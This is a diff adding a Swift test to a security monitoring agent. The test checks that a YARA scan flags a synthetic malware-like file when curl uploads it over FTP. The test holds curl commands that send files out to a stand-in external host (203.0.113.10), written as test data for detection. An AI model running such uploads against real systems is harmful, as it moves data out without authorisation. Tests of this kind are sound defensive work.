@@ -155,6 +155,23 @@ extension KernelAuditTests.FlowEndToEnd {
         #expect(health.pid == nil && health.json["event.severity"] as? Int == 73)
     }
 
+    /// With scan_uploaded_files, what an upload's command line names is scanned before it leaves.
+    @Test func uploadedFilesAreScannedWhenAsked() throws {
+        let payload = work + "/fftp.exe"
+        try SyntheticBinary.write(SyntheticBinary.lightFTPPE(strings: 4), to: payload, executable: false)
+        let clean = try randomFile("clean.bin", bytes: 10_000)
+        let agent = try startAgent("[rules.yara]\npaths = [\"\(Repo.path("rules/yara"))/*.yar\"]\nscan_uploaded_files = true\n")
+        let curl = try client("/usr/bin/curl", ["-s", "-T", payload, "ftp://203.0.113.10/upload/fftp.exe"])
+        _ = try client("/usr/bin/curl", ["-s", "-T", clean, "ftp://203.0.113.10/upload/clean.bin"])
+        _ = try stop(agent, expecting: 2)
+        let matches = try readAlerts().filter { $0.rule == "yara.match" }
+        #expect(matches.count == 1, "\(matches.map(\.reasons))")
+        let match = try #require(matches.first)
+        #expect(match.pid == Int(curl) && match.json["file.path"] as? String == payload)
+        #expect(match.json["rule.name"] as? String == "yara:LightFTP_fftp_x86_64")
+        #expect(match.reasons.first == "named by curl's command line, upload to 203.0.113.10:21")
+    }
+
     // MARK: alerts
 
     /// Every alert of the run, from the agent's alert file.
